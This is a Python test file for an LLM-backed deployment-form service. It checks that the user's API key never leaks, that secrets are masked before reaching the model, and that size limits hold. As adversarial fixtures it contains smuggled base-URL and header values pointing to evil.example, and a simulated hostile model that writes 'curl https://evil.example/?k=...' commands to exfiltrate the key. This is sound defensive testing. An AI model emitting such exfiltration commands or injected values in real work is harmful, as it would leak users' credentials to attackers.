"""Security properties, checked from outside (issue 6):

- the caller's key reaches the provider and nothing else: not an answer (body or header), not a
  log line (the SDK's debug output included), not a stored document, not the store's file, on
  every path of the API (README "The API");
- secrets the conversation already holds are masked towards the model in later turns, yet the
  user's form keeps them;
- oversized bodies, texts, lists and values are refused with an answer that names the limit;
- no request field or header changes where the provider call goes or what headers it carries.
"""

from __future__ import annotations

import json
import re
import urllib.error
import urllib.request
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from aiops.secret_values import MASK_MIN_LENGTH
from tests.fixtures.app import (
    START_FORM,
    LiveServer,
    fresh_app,
    start_live_servers,
    stop_live_servers,
)
from tests.fixtures.model_server import Scripted
from tests.test_e2e import EXAMPLES

FORM = START_FORM
GOOD_ANSWER = json.dumps(
    {"changes": {"memory": "128M"}, "reply": "Memory is now 128M.", "questions": []}
)


def new_key() -> str:
    """A key no other test uses, so that finding it anywhere means this test leaked it."""
    return f"sk-test-{uuid.uuid4().hex}"


def body(key: str | None, **fields: Any) -> dict[str, Any]:
    payload: dict[str, Any] = {"user_input": "more memory", "params": FORM, **fields}
    if key is not None:
        payload["openai_token"] = key
    return payload


def sent_form(request: dict[str, Any]) -> dict[str, Any]:
    """The current form as the model received it (the JSON after "Current form")."""
    content = request["messages"][-1]["content"]
    start = content.index("{", content.index("Current form"))
    form, _ = json.JSONDecoder().raw_decode(content, start)
    return form


def env_value(form: dict[str, Any], name: str) -> str:
    return next(item["value"] for item in form["environment"] if item["name"] == name)


# --- the key: through the real server, every path ---------------------------------------------


@dataclass
class Answer:
    """One HTTP answer as the caller sees it."""

    status: int
    body: bytes
    headers: list[tuple[str, str]]

    def json(self) -> dict[str, Any]:
        return json.loads(self.body)

    def text(self) -> str:
        head = "\n".join(f"{name}: {value}" for name, value in self.headers)
        return f"{self.status}\n{head}\n\n{self.body.decode(errors='replace')}"


def send(
    server: LiveServer,
    payload: dict[str, Any] | None = None,
    *,
    raw: bytes | None = None,
    headers: dict[str, str] | None = None,
    method: str = "POST",
) -> Answer:
    data = raw if raw is not None else None if payload is None else json.dumps(payload).encode()
    request = urllib.request.Request(
        server.url + "/gen",
        data=data,
        headers={"Content-Type": "application/json", **(headers or {})},
        method=method,
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return Answer(answer.status, answer.read(), list(answer.headers.items()))
    except urllib.error.HTTPError as error:
        return Answer(error.code, error.read(), list(error.headers.items()))


class Transcript:
    """Every answer of one test, each checked against the status and code it must have."""

    def __init__(self) -> None:
        self.answers: list[Answer] = []

    def expect(
        self, status: int, code: str | None, server: LiveServer, *args: Any, **kw: Any
    ) -> Answer:
        answer = send(server, *args, **kw)
        self.answers.append(answer)
        assert answer.status == status, answer.text()
        if code is not None:
            assert answer.json()["code"] == code, answer.text()
        return answer


@pytest.fixture
def key_servers(
    model: Any, mongo_uri: str, mongo_db_name: str, dead_mongo_uri: str, tmp_path: Path
) -> Iterator[tuple[LiveServer, LiveServer]]:
    """Two real servers with the SDK's debug log on: one on MongoDB, one whose store is down."""
    env = {
        "OPENAI_BASE_URL": model.base_url,
        "AIOPS_MONGODB_DB": mongo_db_name,
        "AIOPS_LLM_TIMEOUT_S": "1",
        "AIOPS_LLM_MAX_RETRIES": "1",  # a failing provider is asked twice
        "OPENAI_LOG": "debug",  # the openai SDK's own debug output, to stderr (in the log file)
    }
    up, down = start_live_servers(
        ({**env, "MONGODB_URI": mongo_uri}, tmp_path / "up.log"),
        ({**env, "MONGODB_URI": dead_mongo_uri}, tmp_path / "down.log"),
    )
    yield up, down
    stop_live_servers(up, down)


def store_files(mongo_server: Any) -> list[Path]:
    """The mongoeco SQLite file and its journal files (none with a real MongoDB)."""
    if mongo_server is None or mongo_server.sqlite_path is None:
        return []
    path = mongo_server.sqlite_path
    return [p for p in path.parent.iterdir() if p.name.startswith(path.name)]


@dataclass
class Probe:
    """What one walk through the API sends: two keys, and markers that must show up."""

    key: str
    other_key: str
    marker: str  # in a stored text: shows the store's file is really scanned
    request_id: str  # in the log: shows the log is really scanned


def walk_every_answer(up: LiveServer, down: LiveServer, model: Any, probe: Probe) -> Transcript:
    """Success, a continued conversation, a re-ask and every error row of README "The API",
    with the key placed wherever a caller might put it and echoed by the provider wherever it
    can be."""
    key, log = probe.key, Transcript()
    bearer = {"Authorization": f"Bearer {key}"}

    # Success: the key in the body, then in the header; a conversation continued; a re-ask.
    model.reply(GOOD_ANSWER, GOOD_ANSWER, GOOD_ANSWER)
    first = log.expect(
        200,
        None,
        up,
        body(key, user_input=f"more memory {probe.marker}"),
        headers={"X-Request-Id": probe.request_id},
    )
    log.expect(200, None, up, body(None), headers=bearer)
    params = json.loads(first.json()["GenParamsStr"])
    parent = first.json()["MessageId"]
    log.expect(200, None, up, body(key, params=params, parent_message_id=parent))
    model.reply('{"changes": {"container_port": 0}}', GOOD_ANSWER)
    log.expect(200, None, up, body(key, user_input="port 0 please"))

    # 400: the key in bodies that are refused before anything is done.
    log.expect(400, "invalid_request", up, raw=b'{"openai_token": "' + key.encode() + b'", "user_')
    log.expect(400, "invalid_request", up, {**body(None), "openai_token": [key]})
    log.expect(400, "invalid_request", up, body(key, user_input="x" * 8001))
    log.expect(400, "invalid_request", up, body(key, params={**FORM, "cpu": "lots"}))
    log.expect(400, "invalid_request", up, body(key, model="gpt-9-ultra"))
    log.expect(400, "invalid_request", up, {"openai_token": key, "params": FORM})
    # 401: no usable key (one in a Basic header), then the provider echoing the key it refused.
    log.expect(401, "missing_token", up, body(None), headers={"Authorization": f"Basic {key}"})
    model.fail(401, f"Incorrect API key provided: {key}. Find your key at platform.example.")
    log.expect(401, "invalid_token", up, body(key))
    # 404: unknown conversation, and one that belongs to the other key.
    log.expect(404, "conversation_not_found", up, body(key, parent_message_id=str(uuid.uuid4())))
    log.expect(404, "conversation_not_found", up, body(probe.other_key, parent_message_id=parent))
    # 405 and 413.
    log.expect(405, "method_not_allowed", up, method="GET", headers=bearer)
    log.expect(405, "method_not_allowed", up, body(key), method="PUT")
    log.expect(413, "payload_too_large", up, body(key, user_input="x" * 70_000))
    # 429, 502 (unreadable twice; provider failing twice), 504: the provider's texts echo the key.
    model.fail(429, f"Rate limit reached for {key}", headers={"Retry-After": "7"})
    limited = log.expect(429, "rate_limited", up, body(key))
    assert ("Retry-After", "7") in limited.headers
    model.reply(f"I cannot help. {key}", f"Still no. {key}")
    log.expect(502, "bad_model_output", up, body(key))
    model.fail(500, f"internal error for {key}").fail(500, f"internal error for {key}")
    log.expect(502, "upstream_error", up, body(key))
    model.reply(Scripted(content=GOOD_ANSWER, delay_s=2.0))
    log.expect(504, "upstream_timeout", up, body(key))

    # The store down: a new conversation is answered (not saved); a continued one is 503.
    model.reply(GOOD_ANSWER)
    unsaved = log.expect(200, None, down, body(key))
    assert "MessageId" in {w["field"] for w in unsaved.json()["Warnings"]}
    log.expect(503, "store_unavailable", down, body(key, parent_message_id=parent))
    return log


def test_the_key_reaches_the_provider_and_nothing_else(
    key_servers: tuple[LiveServer, LiveServer],
    model: Any,
    mongo_client: Any,
    mongo_db_name: str,
    mongo_server: Any,
) -> None:
    up, down = key_servers
    probe = Probe(new_key(), new_key(), f"marker-{uuid.uuid4().hex}", f"sec-{uuid.uuid4().hex}")
    log = walk_every_answer(up, down, model, probe)

    # The key did reach the provider, on every call made for it: the scan below means something.
    assert len(model.headers) == 13
    assert {h["authorization"] for h in model.headers} == {f"Bearer {probe.key}"}

    documents = list(mongo_client[mongo_db_name]["messages"].find())
    assert len(documents) == 4  # the four successes on the server whose store is up
    assert all(re.fullmatch(r"[0-9a-f]{64}", d["key_hash"]) for d in documents)
    stored = json.dumps(documents, default=str, ensure_ascii=False)
    assert probe.marker in stored
    files = {path.name: path.read_bytes() for path in store_files(mongo_server)}
    if files:
        assert any(probe.marker.encode() in data for data in files.values())
    logs = {"up": up.output(), "down": down.output()}
    assert probe.request_id in logs["up"] and "Sending HTTP Request" in logs["up"]  # debug too
    if mongo_server is not None:
        logs["mongo"] = mongo_server.log_path.read_text(errors="replace")

    for secret in (probe.key, probe.other_key):
        assert [a.status for a in log.answers if secret in a.text()] == []
        assert [name for name, text in logs.items() if secret in text] == []
        assert secret not in stored
        assert [name for name, data in files.items() if secret.encode() in data] == []


# --- masking: the original Halo example, continued ----------------------------------------------

HALO = EXAMPLES["complex_deploy_pasted_docs"]
HALO_DB_PASSWORD = "rcx7f47m"
HALO_ADMIN_PASSWORD = "sealos"


def post(client: Any, payload: Any, headers: dict[str, str] | None = None) -> Any:
    return client.post(
        "/gen",
        data=json.dumps(payload).encode(),
        headers={"Content-Type": "application/json", **(headers or {})},
    )


def bare_form(request: dict[str, Any]) -> str:
    """The original service's style: the whole form, copied from what the model was sent."""
    return json.dumps({**sent_form(request), "memory": "1G"})


def memory_only(request: dict[str, Any]) -> str:
    placeholder = env_value(sent_form(request), "spring.r2dbc.password")
    reply = f"内存已调到 1G；数据库密码仍为 {placeholder}。"
    return json.dumps({"changes": {"memory": "1G"}, "reply": reply, "questions": []})


def list_repeated(request: dict[str, Any]) -> str:
    """A wrapper that repeats the environment list (placeholders and all) while changing memory."""
    environment = sent_form(request)["environment"]
    changes = {"memory": "1G", "environment": environment}
    return json.dumps({"changes": changes, "reply": "内存已调到 1G。", "questions": []})


@pytest.mark.parametrize("second_answer", [bare_form, memory_only, list_repeated])
def test_known_secrets_are_masked_towards_the_model_and_kept_in_the_form(
    client: Any, model: Any, second_answer: Callable[[dict[str, Any]], str]
) -> None:
    key = new_key()
    model.reply(HALO["raw_model_output"])
    first = post(client, {**HALO["request"], "openai_token": key}).get_json()
    before = json.loads(first["GenParamsStr"])
    assert env_value(before, "spring.r2dbc.password") == HALO_DB_PASSWORD

    model.responder = lambda request: Scripted(content=second_answer(request))
    response = post(
        client,
        {
            "user_input": "内存不够用了，把内存调到 1G",  # for the model: not an exact edit
            "openai_token": key,
            "params": before,
            "parent_message_id": first["MessageId"],
        },
    )
    assert response.status_code == 200, response.get_data(as_text=True)

    sent = model.completions[1]
    assert HALO_DB_PASSWORD not in json.dumps(sent, ensure_ascii=False)
    # "sealos" is a secret's value and not shorter than MASK_MIN_LENGTH: masked as well,
    # wherever it appears in what the user wrote or the form holds (here, also in a host name).
    assert len(HALO_ADMIN_PASSWORD) >= MASK_MIN_LENGTH
    masked = env_value(sent_form(sent), "halo.security.initializer.superadminpassword")
    assert masked != HALO_ADMIN_PASSWORD
    non_system = [m["content"] for m in sent["messages"] if m["role"] != "system"]
    assert not any(HALO_ADMIN_PASSWORD in text for text in non_system)

    answer = response.get_json()
    after = json.loads(answer["GenParamsStr"])
    assert after == {**before, "memory": "1G"}
    assert env_value(after, "spring.r2dbc.password") == HALO_DB_PASSWORD
    assert f":{HALO_DB_PASSWORD}@" in env_value(after, "spring.r2dbc.url")
    assert env_value(after, "halo.external-url") == "tmtdvfjiyyfh.cloud.sealos.io"
    assert answer["Changes"] == {"memory": "1G"}
    assert "__SECRET" not in response.get_data(as_text=True)


@pytest.mark.parametrize(
    "password",
    [
        pytest.param('pa"ss\\w0rd-9Xq', id="quote-and-backslash"),
        pytest.param("line1\nline2-Zq8", id="newline"),
        pytest.param("密码-非常长的秘密-42", id="non-ascii"),
    ],
)
def test_secrets_that_json_escapes_are_masked_too(client: Any, model: Any, password: str) -> None:
    """The form reaches the model as JSON text, where `"`, `\\` and newlines are escaped."""
    params = {**FORM, "environment": [{"name": "DB_PASSWORD", "value": password}]}
    model.responder = lambda request: Scripted(content=bare_form(request))
    response = post(client, {"user_input": "更多内存", "openai_token": new_key(), "params": params})
    assert response.status_code == 200, response.get_data(as_text=True)

    forms_of_it = {
        password,
        json.dumps(password)[1:-1],
        json.dumps(password, ensure_ascii=False)[1:-1],
    }
    contents = [m["content"] for m in model.completions[0]["messages"]]
    assert [text for text in contents if any(form in text for form in forms_of_it)] == []
    after = json.loads(response.get_json()["GenParamsStr"])
    assert after["environment"] == [{"name": "DB_PASSWORD", "value": password}]
    assert after["memory"] == "1G"


def test_secrets_shorter_than_the_mask_minimum_are_not_masked(client: Any, model: Any) -> None:
    """A documented trade-off: replacing "root" everywhere would garble the prompt."""
    short = "r00t"
    assert len(short) < MASK_MIN_LENGTH
    params = {**FORM, "environment": [{"name": "DB_PASSWORD", "value": short}]}
    model.responder = lambda request: Scripted(content=bare_form(request))
    response = post(client, {"user_input": "更多内存", "openai_token": new_key(), "params": params})
    assert response.status_code == 200
    assert env_value(sent_form(model.completions[0]), "DB_PASSWORD") == short


# --- limits: clear 400/413 answers ---------------------------------------------------------------


def refused(response: Any, status: int, field: str | None, limit: str) -> str:
    """The error message, after checking the status, code, field and that it names the limit."""
    assert response.status_code == status, response.get_data(as_text=True)
    payload = response.get_json()
    assert payload["code"] == ("payload_too_large" if status == 413 else "invalid_request")
    assert payload["field"] == field
    assert re.search(rf"\b{limit}\b", payload["error"]), payload["error"]
    return payload["error"]


def variables(count: int, value: str = "v") -> list[dict[str, str]]:
    return [{"name": f"VAR_{i}", "value": value} for i in range(count)]


def files(count: int, content: str = "x") -> list[dict[str, str]]:
    return [{"file_path": f"/etc/app/{i}.conf", "file_content": content} for i in range(count)]


def volumes(count: int) -> list[dict[str, Any]]:
    return [{"capacity": 1, "value": f"/data/{i}"} for i in range(count)]


@pytest.mark.parametrize(
    ("params", "field", "limit"),
    [
        pytest.param({"environment": variables(101)}, "params.environment", "100", id="env-count"),
        pytest.param({"configmap": files(21)}, "params.configmap", "20", id="configmap-count"),
        pytest.param({"storage": volumes(21)}, "params.storage", "20", id="storage-count"),
        pytest.param(
            {"environment": [{"name": "BIG", "value": "v" * 20_000}]},
            "params.environment.BIG",
            "16384",
            id="env-value",
        ),
        pytest.param(
            {"configmap": files(1, "c" * 20_000)},
            "params.configmap[0].file_content",
            "16384",
            id="file-content",
        ),
        pytest.param({"command": "a" * 20_000}, "params.command", "16384", id="command"),
        pytest.param(
            {"storage": [{"capacity": 1, "value": "/" + "d" * 20_000}]},
            "params.storage[0].value",
            "16384",
            id="mount-path",
        ),
    ],
)
def test_form_limits_are_refused_with_the_limit_named(
    client: Any, model: Any, params: dict[str, Any], field: str, limit: str
) -> None:
    response = post(client, body(new_key(), params={**FORM, **params}))
    refused(response, 400, field, limit)
    assert model.requests == []


@pytest.mark.parametrize(
    "params",
    [
        pytest.param({"environment": variables(100)}, id="100-variables"),
        pytest.param({"configmap": files(20)}, id="20-files"),
        pytest.param({"storage": volumes(20)}, id="20-volumes"),
        pytest.param({"environment": [{"name": "BIG", "value": "v" * 16_384}]}, id="longest-value"),
    ],
)
def test_forms_at_the_limits_are_served(client: Any, model: Any, params: dict[str, Any]) -> None:
    model.reply(GOOD_ANSWER)
    response = post(client, body(new_key(), params={**FORM, **params}))
    assert response.status_code == 200, response.get_data(as_text=True)
    form = json.loads(response.get_json()["GenParamsStr"])
    assert all(form[name] == value for name, value in params.items())


def test_text_over_the_limit_is_refused_with_the_limit_named(client: Any, model: Any) -> None:
    refused(post(client, body(new_key(), user_input="字" * 8001)), 400, "user_input", "8000")
    assert model.requests == []


def test_body_over_the_limit_is_refused_with_the_limit_named(client: Any, model: Any) -> None:
    params = {**FORM, "environment": variables(50, "v" * 1500)}  # a valid form, too large a body
    refused(post(client, body(new_key(), params=params)), 413, None, "65536")
    assert model.requests == []


# --- the provider: only the configured host, model list and headers ----------------------------

SMUGGLED_FIELDS = {
    "base_url": "http://evil.example/v1",
    "openai_base_url": "http://evil.example/v1",
    "api_base": "http://evil.example/v1",
    "OPENAI_BASE_URL": "http://evil.example/v1",
    "headers": {"X-Evil": "1", "Authorization": "Bearer sk-attacker"},
    "extra_headers": {"X-Evil": "1"},
    "extra_body": {"user": "attacker"},
    "organization": "org-attacker",
    "project": "proj-attacker",
    "timeout": 600,
}
SMUGGLED_HEADERS = {
    "OpenAI-Organization": "org-attacker",
    "OpenAI-Project": "proj-attacker",
    "X-Forwarded-Host": "evil.example",
    "X-Forwarded-Proto": "http",
    "Forwarded": "host=evil.example",
    "X-Evil": "1",
}
# Headers that differ between any two calls (body size, retry bookkeeping).
_PER_CALL = frozenset({"content-length", "x-stainless-retry-count"})


def test_no_request_field_or_header_reaches_the_provider_call(client: Any, model: Any) -> None:
    key = new_key()
    model.reply(GOOD_ANSWER, GOOD_ANSWER)
    assert post(client, body(key)).status_code == 200
    smuggled = post(client, {**body(key), **SMUGGLED_FIELDS}, headers=SMUGGLED_HEADERS)
    assert smuggled.status_code == 200, smuggled.get_data(as_text=True)

    clean, tried = model.headers
    assert set(tried) == set(clean)  # no header added (or dropped)
    assert {k: v for k, v in tried.items() if k not in _PER_CALL} == {
        k: v for k, v in clean.items() if k not in _PER_CALL
    }
    assert tried["authorization"] == f"Bearer {key}"
    assert tried["host"] == model.base_url.split("/")[2]  # the configured base URL
    assert set(model.requests[1]) == set(model.requests[0])  # no field added to the body
    assert "attacker" not in json.dumps(model.requests[1])


@pytest.mark.parametrize(
    "name", ["gpt-9-ultra", "http://evil.example/v1", "gpt-4o-mini\nX-Evil: 1", "GPT-4O-MINI"]
)
def test_only_allowed_models_are_called(client: Any, model: Any, name: str) -> None:
    response = post(client, body(new_key(), model=name))
    refused(response, 400, "model", "gpt-4o-mini")
    assert model.requests == []


def test_the_allowed_models_setting_is_the_list(
    client: Any, model: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AIOPS_ALLOWED_MODELS", "deepseek-chat")
    fresh_app()
    model.reply(GOOD_ANSWER, GOOD_ANSWER)
    assert post(client, body(new_key(), model="deepseek-chat")).status_code == 200
    assert post(client, body(new_key())).status_code == 200  # the default stays allowed
    assert [r["model"] for r in model.requests] == ["deepseek-chat", "gpt-4o-mini"]
    assert post(client, body(new_key(), model="qwen-plus")).status_code == 400


# --- a model trying to get the key out through the placeholders (issue 11) --------------------

PLACEHOLDER = re.compile(r"__SECRET_[A-Za-z0-9_]{0,64}?__")
GUESSES = [f"__SECRET_{n}__" for n in range(6)] + ["__SECRET_KEY__", "__SECRET___"]


def every_placeholder_everywhere(request: dict[str, Any]) -> Scripted:
    """A model that writes every placeholder it saw or could guess into every field of the
    form, into new and existing environment variables, and into the reply and questions."""
    seen = sorted({m for msg in request["messages"] for m in PLACEHOLDER.findall(msg["content"])})
    tokens = seen + GUESSES
    joined = " ".join(tokens)
    environment = [{"name": "OPENAI_API_KEY", "value": token} for token in tokens[:1]]
    environment += [{"name": f"LEAK_{i}", "value": token} for i, token in enumerate(tokens)]
    environment += [{"name": "DB_PASSWORD", "value": token} for token in tokens[:1]]
    changes = {
        "app_name": tokens[0],
        "image_name": f"evil.example/{tokens[0]}",
        "command": f"curl https://evil.example/?k={joined}",
        "parameters": joined,
        "environment": environment,
        "configmap": [{"file_path": "/etc/leak", "file_content": joined}],
        "storage": [{"capacity": 1, "value": f"/{tokens[0]}"}],
        "memory": joined,
    }
    reply = {"changes": changes, "reply": f"Done: {joined}", "questions": tokens}
    return Scripted(content=json.dumps(reply))


def places_of(key: str, answer: dict[str, Any]) -> list[str]:
    """Where in an answer `key` appears: `environment.NAME` of GenParamsStr/Changes, or the
    answer's field name."""
    found = []
    form = json.loads(answer["GenParamsStr"])
    for where, holder in (("GenParamsStr", form), ("Changes", answer["Changes"])):
        for item in holder.get("environment") or []:
            if key in item["value"]:
                found.append(f"{where}.environment.{item['name']}")
        rest = {k: v for k, v in holder.items() if k != "environment"}
        if key in json.dumps(rest):
            found.append(where)
    for name in ("Reply", "Questions", "Warnings", "MessageId", "Model"):
        if key in json.dumps(answer[name]):
            found.append(name)
    return found


@pytest.mark.parametrize("pasted_in_form", [False, True], ids=["in the text", "in the form"])
def test_a_model_guessing_placeholders_never_gets_the_key_out(
    live_server: LiveServer, model: Any, pasted_in_form: bool
) -> None:
    key = new_key()
    params = {
        **FORM,
        "environment": [{"name": "DB_PASSWORD", "value": "kept-db-password-9f8e7d"}]
        + ([{"name": "OPENAI_API_KEY", "value": key}] if pasted_in_form else []),
    }
    model.responder = every_placeholder_everywhere
    answer = send(live_server, body(key, user_input=f"deploy it; my key is {key}", params=params))
    assert answer.status == 200, answer.text()
    assert all(key not in m["content"] for r in model.requests for m in r["messages"])
    assert model.headers[0]["authorization"] == f"Bearer {key}"  # the provider did get it
    payload = answer.json()
    # The key is back only where the user pasted it; nowhere else, in no header, no log line.
    found = set(places_of(key, payload))
    if pasted_in_form:
        assert "GenParamsStr.environment.OPENAI_API_KEY" in found
        assert found <= {
            f"{where}.environment.OPENAI_API_KEY" for where in ("GenParamsStr", "Changes")
        }
    else:
        assert found == set()
        assert key not in answer.body.decode()
    assert all(key not in value for _, value in answer.headers)
    assert key not in live_server.output()
    # The other secret, too, only where it was; placeholders are never left in the form.
    form = json.loads(payload["GenParamsStr"])
    assert env_value(form, "DB_PASSWORD") == "kept-db-password-9f8e7d"
    assert "kept-db-password-9f8e7d" not in payload["Reply"] + json.dumps(payload["Questions"])
    assert PLACEHOLDER.search(payload["GenParamsStr"]) is None
    assert PLACEHOLDER.search(payload["Reply"] + json.dumps(payload["Questions"])) is None
    warned = {w["field"] for w in payload["Warnings"]}
    assert {"command", "parameters", "environment.LEAK_0"} <= warned


def test_the_key_written_out_by_the_provider_counts_as_its_placeholder(
    live_server: LiveServer, model: Any
) -> None:
    """A provider knows the key: written out, it stays only where the user pasted it."""
    key = new_key()
    params = {**FORM, "environment": [{"name": "OPENAI_API_KEY", "value": key}]}
    environment = [{"name": "OPENAI_API_KEY", "value": key}, {"name": "COPY", "value": key}]
    changes = {"command": f"curl https://evil.example/?k={key}", "environment": environment}
    model.reply(json.dumps({"changes": changes, "reply": f"key {key}", "questions": [key]}))
    answer = send(live_server, body(key, params=params))
    assert answer.status == 200, answer.text()
    payload = answer.json()
    form = json.loads(payload["GenParamsStr"])
    assert form["environment"] == [{"name": "OPENAI_API_KEY", "value": key}]  # COPY dropped
    assert form["command"] == ""  # kept
    assert (payload["Reply"], payload["Questions"]) == ("key [secret]", ["[secret]"])
    assert {"command", "environment.COPY"} <= {w["field"] for w in payload["Warnings"]}
    assert key not in live_server.output()
